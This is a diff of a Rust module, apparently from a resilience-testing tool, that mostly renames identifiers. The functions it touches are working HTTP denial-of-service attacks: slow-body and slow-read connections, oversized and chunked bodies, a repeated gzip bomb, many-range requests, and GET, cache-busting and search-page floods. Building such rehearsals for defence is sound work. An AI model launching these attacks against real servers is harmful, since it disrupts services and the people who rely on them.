@@ -8,10 +8,10 @@ use flate2::write::GzEncoder;
 use tokio::io::AsyncReadExt;
 use tokio::time::timeout_at;
 
-use super::connections::{ask, get};
-use super::ground::{Attacker, End, rest};
+use super::connections::{get_request, request_loop};
+use super::context::{Attacker, End, bounded_sleep};
 use super::heads::open;
-use super::http_1::{drip, hold, note, status, write};
+use super::http_1::{count_status, drip, hold, parse_status, write};
 
 /// A body of a megabyte is announced and comes a byte a second (R-U-Dead-Yet).
 pub(super) async fn slow_body(attacker: Attacker) -> End {
@@ -22,7 +22,7 @@ pub(super) async fn slow_body(attacker: Attacker) -> End {
         attacker.path(),
         attacker.host()
     );
-    attacker.requested(1);
+    attacker.count_requests(1);
     let bytes = std::iter::repeat_n(b"a".to_vec(), 1_000_000);
     let pieces = std::iter::once(head.into_bytes()).chain(bytes);
     drip(&attacker, &mut stream, pieces, Duration::from_secs(1)).await
@@ -36,24 +36,24 @@ pub(super) async fn slow_read(attacker: Attacker) -> End {
     let Some(mut stream) = attacker.open_with(Some(1_152)).await else {
         return End::NotOpened;
     };
-    let head = get(&attacker, attacker.path());
+    let head = get_request(&attacker, attacker.path());
     let heads = head.repeat(8);
-    attacker.requested(8);
+    attacker.count_requests(8);
     if let Err(end) = write(&attacker, &mut stream, heads.as_bytes()).await {
         return end;
     }
     // Nothing at all at first: what is in the buffers on the way is no progress of ours.
     let mut first = Vec::new();
-    while attacker.may_go_on() {
-        rest(&attacker, Duration::from_secs(1)).await;
+    while attacker.may_continue() {
+        bounded_sleep(&attacker, Duration::from_secs(1)).await;
         let mut byte = [0];
         match timeout_at(attacker.end(), stream.read(&mut byte)).await {
             Ok(Ok(1)) if first.len() < 12 => {
                 first.push(byte[0]);
                 if first.len() == 12 {
-                    note(&attacker, &first);
-                    if !matches!(status(&first), Some(200..300)) {
-                        return End::Done;
+                    count_status(&attacker, &first);
+                    if !matches!(parse_status(&first), Some(200..300)) {
+                        return End::Finished;
                     }
                 }
             }
@@ -70,10 +70,10 @@ pub(super) async fn slow_read(attacker: Attacker) -> End {
 }
 
 /// Whether the other end has given the connection up, as the kernel knows it.
-fn is_reset(stream: &super::dial::Stream) -> bool {
+fn is_reset(stream: &super::dial::ClientStream) -> bool {
     let tcp = match stream {
-        super::dial::Stream::Plain(tcp) => tcp,
-        super::dial::Stream::Tls(tls) => tls.get_ref().0,
+        super::dial::ClientStream::Plain(tcp) => tcp,
+        super::dial::ClientStream::Tls(tls) => tls.get_ref().0,
     };
     matches!(tcp.take_error(), Ok(Some(_)) | Err(_))
 }
@@ -84,8 +84,8 @@ fn is_reset(stream: &super::dial::Stream) -> bool {
 pub(super) async fn large_body(attacker: Attacker) -> End {
     let mut stream = open!(attacker);
     let (path, host) = (attacker.path(), attacker.host());
-    attacker.requested(1);
-    if attacker.place.is_multiple_of(2) {
+    attacker.count_requests(1);
+    if attacker.slot.is_multiple_of(2) {
         let head = format!(
             "POST {path} HTTP/1.1\r\nHost: {host}\r\nContent-Length: 1099511627776\r\n\r\n"
         );
@@ -99,8 +99,8 @@ pub(super) async fn large_body(attacker: Attacker) -> End {
     let mut chunk = b"10000\r\n".to_vec();
     chunk.extend(std::iter::repeat_n(b'a', 0x10000));
     chunk.extend(b"\r\n");
-    let beyond = usize::try_from(attacker.grants().body_bytes() >> 16).unwrap_or(usize::MAX);
-    let once = attacker.turn == 0 && attacker.place % 8 == 1;
+    let beyond = usize::try_from(attacker.gate_limits().body_bytes() >> 16).unwrap_or(usize::MAX);
+    let once = attacker.attempt == 0 && attacker.slot % 8 == 1;
     // A rehearsal's budget ends it where a gate grants more than that.
     let chunks = std::iter::repeat_n(chunk, if once { beyond.saturating_add(16) } else { 64 });
     let pieces = std::iter::once(head.into_bytes()).chain(chunks);
@@ -120,7 +120,7 @@ pub(super) async fn gzip_bomb(attacker: Attacker) -> End {
     let mut request = head.into_bytes();
     request.extend(body);
     for _ in 0..20 {
-        attacker.requested(1);
+        attacker.count_requests(1);
         if let Err(end) = write(&attacker, &mut stream, &request).await {
             return end;
         }
@@ -130,7 +130,7 @@ pub(super) async fn gzip_bomb(attacker: Attacker) -> End {
             Err(end) => return end,
         }
     }
-    End::Done
+    End::Finished
 }
 
 fn bomb() -> Vec<u8> {
@@ -147,7 +147,7 @@ fn bomb() -> Vec<u8> {
 pub(super) async fn many_ranges(attacker: Attacker) -> End {
     let ranges: Vec<String> = (0..1_300).map(|n| format!("{n}-")).collect();
     let ranges = ranges.join(",");
-    ask(&attacker, Duration::from_millis(100), 50, |_| {
+    request_loop(&attacker, Duration::from_millis(100), 50, |_| {
         format!(
             "GET {} HTTP/1.1\r\nHost: {}\r\nRange: bytes={ranges}\r\n\r\n",
             attacker.path(),
@@ -159,23 +159,23 @@ pub(super) async fn many_ranges(attacker: Attacker) -> End {
 
 /// The same page again and again, as fast as it comes, fifty times a second and connection.
 pub(super) async fn get_flood(attacker: Attacker) -> End {
-    ask(&attacker, FLOOD, u32::MAX, |_| get(&attacker, attacker.path())).await
+    request_loop(&attacker, FLOOD, u32::MAX, |_| get_request(&attacker, attacker.path())).await
 }
 
 /// The same page under an address that no cache has ever seen.
 pub(super) async fn cache_busting(attacker: Attacker) -> End {
-    ask(&attacker, FLOOD, u32::MAX, |round| {
-        let number = attacker.number(round).wrapping_mul(0x9e37_79b9_7f4a_7c15);
-        get(&attacker, &format!("{}?x={number:x}", attacker.path()))
+    request_loop(&attacker, FLOOD, u32::MAX, |round| {
+        let number = attacker.unique_number(round).wrapping_mul(0x9e37_79b9_7f4a_7c15);
+        get_request(&attacker, &format!("{}?x={number:x}", attacker.path()))
     })
     .await
 }
 
 /// What costs the origin most: searches, each for something else.
 pub(super) async fn expensive_pages(attacker: Attacker) -> End {
-    ask(&attacker, FLOOD, u32::MAX, |round| {
-        let number = attacker.number(round).wrapping_mul(0x9e37_79b9_7f4a_7c15);
-        get(&attacker, &format!("/search?q={number:x}"))
+    request_loop(&attacker, FLOOD, u32::MAX, |round| {
+        let number = attacker.unique_number(round).wrapping_mul(0x9e37_79b9_7f4a_7c15);
+        get_request(&attacker, &format!("/search?q={number:x}"))
     })
     .await
 }
